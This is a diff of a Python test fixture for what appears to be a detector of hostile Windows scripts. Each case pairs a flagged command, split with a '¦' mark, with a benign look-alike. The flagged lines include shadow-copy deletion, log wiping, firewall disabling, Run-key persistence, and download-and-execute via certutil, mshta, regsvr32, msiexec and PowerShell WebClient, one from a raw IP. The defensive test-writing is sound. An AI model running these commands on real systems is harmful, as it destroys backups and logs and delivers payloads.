@@ -1,3 +1,4 @@
+# ruff: noqa: E501 -- a line of a script is one line here, too
 from tests.engine.script_texts import pair
 
 TEMP = "$env:TEMP\\setup.exe"
@@ -8,7 +9,9 @@ CASES = {
         'reg add "HKCU\\Software\\Microsoft\\Windows\\Current¦Version\\Run" /v tool /d C:\\tool.exe\r\n',
         'reg add "HKCU\\Software\\Tool" /v size /d 3\r\n',
     ),
-    "windows.scheduled_task": pair("a.bat", "sch¦tasks /create /tn backup /tr C:\\backup.bat /sc daily\r\n", "schtasks /query\r\n"),
+    "windows.scheduled_task": pair(
+        "a.bat", "sch¦tasks /create /tn backup /tr C:\\backup.bat /sc daily\r\n", "schtasks /query\r\n"
+    ),
     "windows.shadow_delete": pair("a.bat", "vss¦admin delete sha¦dows /all /quiet\r\n", "vssadmin list shadows\r\n"),
     "windows.recovery_off": pair("a.bat", "bcd¦edit /set {default} recovery¦enabled no\r\n", "bcdedit /enum\r\n"),
     "windows.no_way_back": pair(
@@ -18,22 +21,30 @@ CASES = {
     ),
     "windows.log_wipe": pair("a.bat", "wevt¦util cl Security\r\n", "wevtutil qe Security /c:5\r\n"),
     "windows.tool_download": pair(
-        "a.bat", "cert¦util -url¦cache -split -f https://example.com/a.txt a.txt\r\n", "certutil -hashfile a.txt SHA256\r\n"
+        "a.bat",
+        "cert¦util -url¦cache -split -f https://example.com/a.txt a.txt\r\n",
+        "certutil -hashfile a.txt SHA256\r\n",
     ),
     "windows.tool_download_start": pair(
         "a.bat",
         "cert¦util -url¦cache -split -f https://example.com/a.txt %TEMP%\\a.exe\r\n%TEMP%\\a.exe\r\n",
         "certutil -hashfile %TEMP%\\a.exe SHA256\r\n",
     ),
-    "windows.tool_decode": pair("a.bat", "cert¦util -decode a.txt a.exe\r\nstart a.exe\r\n", "certutil -dump a.cer\r\nstart notes.txt\r\n"),
+    "windows.tool_decode": pair(
+        "a.bat", "cert¦util -decode a.txt a.exe\r\nstart a.exe\r\n", "certutil -dump a.cer\r\nstart notes.txt\r\n"
+    ),
     "windows.mshta_remote": pair("a.bat", "ms¦hta https://example.com/a\r\n", "mshta C:\\app\\menu.hta\r\n"),
     "windows.regsvr32_remote": pair(
         "a.bat", "reg¦svr32 /s /n /u /i:https://example.com/a scr¦obj.dll\r\n", "regsvr32 /s C:\\app\\part.dll\r\n"
     ),
     "windows.rundll32_script": pair(
-        "a.bat", 'run¦dll32 java¦script:"\\..\\mshtml,RunHTMLApplication ";x()\r\n', "rundll32 shell32.dll,Control_RunDLL desk.cpl\r\n"
+        "a.bat",
+        'run¦dll32 java¦script:"\\..\\mshtml,RunHTMLApplication ";x()\r\n',
+        "rundll32 shell32.dll,Control_RunDLL desk.cpl\r\n",
     ),
-    "windows.remote_installer": pair("a.bat", "msi¦exec /q /i https://example.com/a.msi\r\n", "msiexec /i setup.msi\r\n"),
+    "windows.remote_installer": pair(
+        "a.bat", "msi¦exec /q /i https://example.com/a.msi\r\n", "msiexec /i setup.msi\r\n"
+    ),
     "windows.firewall_off": pair(
         "a.bat", "net¦sh advfirewall set allprofiles state off\r\n", "netsh advfirewall set allprofiles state on\r\n"
     ),
@@ -47,16 +58,18 @@ CASES = {
         "a.ps1", "Invoke-WebRequest https://example.com/list.csv -OutFile list.csv\n", "Import-Csv list.csv\n"
     ),
     "windows.start_file": pair("a.ps1", "Start-Process notepad.exe\n", "Get-Process notepad\n"),
-    "windows.temp_program": pair("a.ps1", f"Copy-Item setup.exe {TEMP}\n", "Copy-Item setup.exe D:\\tools\\setup.exe\n"),
+    "windows.temp_program": pair(
+        "a.ps1", f"Copy-Item setup.exe {TEMP}\n", "Copy-Item setup.exe D:\\tools\\setup.exe\n"
+    ),
     "windows.hidden_download_start": pair(
         "a.ps1",
-        f"(New-Object Net.WebClient).Down¦loadFile('https://example.com/a', \"{TEMP}\")\nStart-Process \"{TEMP}\" -WindowStyle Hid¦den\n",
-        f"(New-Object Net.WebClient).DownloadFile('https://example.com/a', \"{TEMP}\")\nStart-Process \"{TEMP}\"\n",
+        f'(New-Object Net.WebClient).Down¦loadFile(\'https://example.com/a\', "{TEMP}")\nStart-Process "{TEMP}" -WindowStyle Hid¦den\n',
+        f'(New-Object Net.WebClient).DownloadFile(\'https://example.com/a\', "{TEMP}")\nStart-Process "{TEMP}"\n',
     ),
     "windows.download_start_odd_place": pair(
         "a.ps1",
-        f"(New-Object Net.WebClient).Down¦loadFile('http://45.9.148.1/a.exe', \"{TEMP}\")\nStart-Process \"{TEMP}\"\n",
-        f"(New-Object Net.WebClient).DownloadFile('https://example.com/a', \"{TEMP}\")\nStart-Process \"{TEMP}\"\n",
+        f'(New-Object Net.WebClient).Down¦loadFile(\'http://45.9.148.1/a.exe\', "{TEMP}")\nStart-Process "{TEMP}"\n',
+        f'(New-Object Net.WebClient).DownloadFile(\'https://example.com/a\', "{TEMP}")\nStart-Process "{TEMP}"\n',
     ),
     "windows.user_added": pair(
         "a.bat",
